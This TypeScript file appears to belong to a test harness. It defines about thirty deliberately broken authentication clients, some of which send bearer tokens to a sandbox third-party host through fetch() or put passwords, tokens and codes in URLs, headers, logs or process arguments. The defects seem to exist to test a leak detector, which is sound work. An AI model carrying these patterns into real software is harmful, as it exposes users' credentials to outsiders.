// Clients that send secrets to wrong places.
import { spawn } from 'node:child_process';
import type { Sent } from '../proxy.ts';
import {
  bodyOf,
  kindOf,
  type PlantedDefect,
  type PlantedDefects,
  refreshToken,
  starting,
  tokenOf,
  type World,
  withHeader,
  withMember,
  withQuery,
} from './planted.ts';
import { isCall } from './responses.ts';

/** The secrets that a broken client has and may leak. */
interface Known {
  readonly password: string;
  /** The last access token, and the last refresh token. */
  readonly access: string;
  readonly refresh: string;
  /** The codes that the person types. */
  readonly codes: readonly string[];
}

export const leaks: PlantedDefects = {
  'trusts-every-origin': trusting(() => true),
  'trusts-origins-that-begin-alike': trusting((url, api) => url.startsWith(api)),
  'trusts-urls-that-begin-with-the-base-url': trusting((url, _, baseUrl) =>
    url.startsWith(baseUrl),
  ),
  'trusts-user-information': trusting((url, api) => url.startsWith(`${api}@`)),
  'trusts-urls-that-contain-the-api': trusting((url, api) => url.lastIndexOf(api) > 0),
  'compares-only-hosts': trusting((url, api) => new URL(url).hostname === new URL(api).hostname),
  'follows-redirects-of-token-requests': () => ({
    async intercept(sent, pass, world) {
      const received = await pass(sent);
      const location = received?.headers.location;
      if (isCall(sent, world) || typeof location !== 'string') return received;
      const { pathname, origin } = new URL(location, 'http://sandbox');
      return new URL(world.thirdParty).origin === origin
        ? received
        : pass({ ...sent, path: pathname });
    },
  }),
  'authenticates-a-client-twice': () => {
    let secret: string | undefined;
    return {
      tell: starting((say) => {
        secret = say.credentials.client_secret;
        return say;
      }),
      async intercept(sent, pass, world) {
        const isTokenRequest = /^(login|refresh)$/.test(kindOf(sent, world) ?? '');
        return pass(
          isTokenRequest && secret !== undefined ? withMember(sent, 'client_secret', secret) : sent,
        );
      },
    };
  },
  'follows-redirects': () => ({
    async intercept(sent, pass, { thirdParty }) {
      const received = await pass(sent);
      if (!received || received.status < 300 || received.status >= 400) return received;
      const { method, headers, body } = sent;
      await fetch(thirdParty, { method, headers, ...(body && { body }) });
      return received;
    },
  }),
  'follows-permanent-redirects': () => ({
    async intercept(sent, pass, { thirdParty }) {
      const received = await pass(sent);
      const { method, headers, body } = sent;
      if (received?.status === 308 || received?.status === 301)
        await fetch(thirdParty, { method, headers, ...(body && { body }) });
      return received;
    },
  }),
  'shares-cookies': () => {
    let cookie = '';
    return {
      async intercept(sent, pass, world) {
        if (kindOf(sent, world) !== 'login') return pass(sent);
        const received = await pass(cookie ? withHeader(sent, 'cookie', cookie) : sent);
        const set = [received?.headers['set-cookie'] ?? []].flat().at(-1);
        cookie = set?.split(';')[0] ?? cookie;
        return received;
      },
    };
  },
  'puts-tokens-in-urls': leaking('call', (sent, { access }) =>
    withQuery(sent, 'access_token', access),
  ),
  'puts-refresh-tokens-in-urls': leaking('refresh', (sent, { refresh }) =>
    withQuery(sent, 'refresh_token', refresh),
  ),
  'puts-passwords-in-urls': leaking('login', (sent, { password }) =>
    withQuery(sent, 'password', password),
  ),
  'sends-old-token-with-refresh': leaking('refresh', (sent, { access }) =>
    withHeader(sent, 'authorization', `Bearer ${access}`),
  ),
  'sends-old-token-in-refresh': leaking('refresh', (sent, { access }) =>
    withMember(sent, 'access_token', access),
  ),
  'sends-refresh-token-as-access-token': leaking('refresh', (sent, { refresh }) =>
    withHeader(sent, 'authorization', `Bearer ${refresh}`),
  ),
  'sends-refresh-token-with-calls': leaking('call', (sent, { refresh }) =>
    refresh ? withHeader(sent, 'x-refresh-token', refresh) : sent,
  ),
  'sends-old-token-with-login': leaking('login', (sent, { access }) =>
    access ? withHeader(sent, 'x-access-token', access) : sent,
  ),
  'keeps-token-in-cookie': leaking('call', (sent, { access }) =>
    withHeader(sent, 'cookie', `token=${access}`),
  ),
  'sends-password-in-header': leaking('login', (sent, { password }) =>
    withHeader(sent, 'x-password', password),
  ),
  'sends-password-with-calls': leaking('call', (sent, { password }) =>
    withHeader(sent, 'x-password', password),
  ),
  'sends-password-with-refresh': leaking('refresh', (sent, { password }) =>
    withMember(sent, 'password', password),
  ),
  'sends-token-in-body': leaking('create', (sent, { access }) =>
    withMember(sent, 'access_token', access),
  ),
  'logs-tokens': leaking('call', (sent, { access }, { log }) => {
    log(`GET with Bearer ${access}`);
    return sent;
  }),
  'logs-refresh-tokens': leaking('refresh', (sent, { refresh }, { log }) => {
    log(`refreshing with ${refresh}`);
    return sent;
  }),
  'logs-passwords': leaking('login', (sent, { password }, { log }) => {
    log(`logging in with ${password}`);
    return sent;
  }),
  'logs-codes': leaking('challenge', (sent, { codes }, { log }) => {
    log(`sending the code ${codes[0]}`);
    return sent;
  }),
  'puts-codes-in-urls': leaking('challenge', (sent, { codes }) =>
    withQuery(sent, 'code', codes[0] ?? ''),
  ),
  'puts-secrets-in-arguments': () => {
    let password = '';
    return {
      async tell(say, driver) {
        if (say.do === 'start') password = say.credentials.password ?? '';
        return driver.tell(say);
      },
      async intercept(sent, pass, world) {
        if (kindOf(sent, world) !== 'login') return pass(sent);
        const wait = 'setTimeout(() => {}, 60_000)';
        const child = spawn(process.execPath, ['-e', wait, password], { stdio: 'ignore' });
        world.processes.add(child.pid!);
        try {
          return await pass(sent);
        } finally {
          world.processes.delete(child.pid!);
          child.kill('SIGKILL');
        }
      },
    };
  },
  'quotes-codes-in-errors': () => {
    let codes: readonly string[] = [];
    return {
      async tell(say, driver, { log }) {
        if (say.do === 'start') codes = say.codes ?? [];
        const answer = await driver.tell(say);
        if (answer.results?.some((result) => typeof result !== 'number'))
          log(`the code ${codes[0]} is wrong`);
        return answer;
      },
    };
  },
  'quotes-password-in-errors': () => {
    let password = '';
    return {
      async tell(say, driver, { log }) {
        if (say.do === 'start') password = say.credentials.password ?? '';
        const answer = await driver.tell(say);
        if (answer.results?.some((result) => typeof result !== 'number'))
          log(`the login with ${password} failed`);
        return answer;
      },
    };
  },
};

/** Sends the token to foreign URLs for which `trusts` returns true. `api` is the origin of the API. */
function trusting(
  trusts: (url: string, api: string, baseUrl: string) => boolean,
): () => PlantedDefect {
  return () => {
    let [token, baseUrl] = ['', ''];
    return {
      async intercept(sent, pass, world) {
        token = tokenOf(sent, world) ?? token;
        return pass(sent);
      },
      async tell(say, driver, { thirdParty }) {
        if (say.do === 'start') baseUrl = say.baseUrl;
        const api = baseUrl && new URL(baseUrl).origin;
        if (say.do === 'call' && say.url && trusts(say.url, api, baseUrl))
          await fetch(thirdParty, { headers: { authorization: `Bearer ${token}` } });
        return driver.tell(say);
      },
    };
  };
}

/** Changes the requests of a kind. A `call` has a token; a `login` contains the password. */
function leaking(
  kind: 'call' | 'login' | 'refresh' | 'create' | 'challenge',
  change: (sent: Sent, known: Known, world: World) => Sent,
): () => PlantedDefect {
  return () => {
    const known = { password: '', access: '', refresh: '', codes: [] as readonly string[] };
    const isKind = (sent: Sent, world: World): boolean => {
      if (kind === 'call') return tokenOf(sent, world) !== undefined;
      return kind === 'login'
        ? known.password !== '' && decodeURIComponent(bodyOf(sent)).includes(known.password)
        : kindOf(sent, world) === kind;
    };
    return {
      async tell(say, driver) {
        if (say.do === 'start') {
          known.password = say.credentials.password ?? '';
          known.codes = say.codes ?? [];
        }
        return driver.tell(say);
      },
      async intercept(sent, pass, world) {
        known.access = tokenOf(sent, world) ?? known.access;
        const received = await pass(isKind(sent, world) ? change(sent, known, world) : sent);
        if (received?.status === 200)
          known.refresh = refreshToken.exec(bodyOf(received))?.[2] ?? known.refresh;
        return received;
      },
    };
  };
}
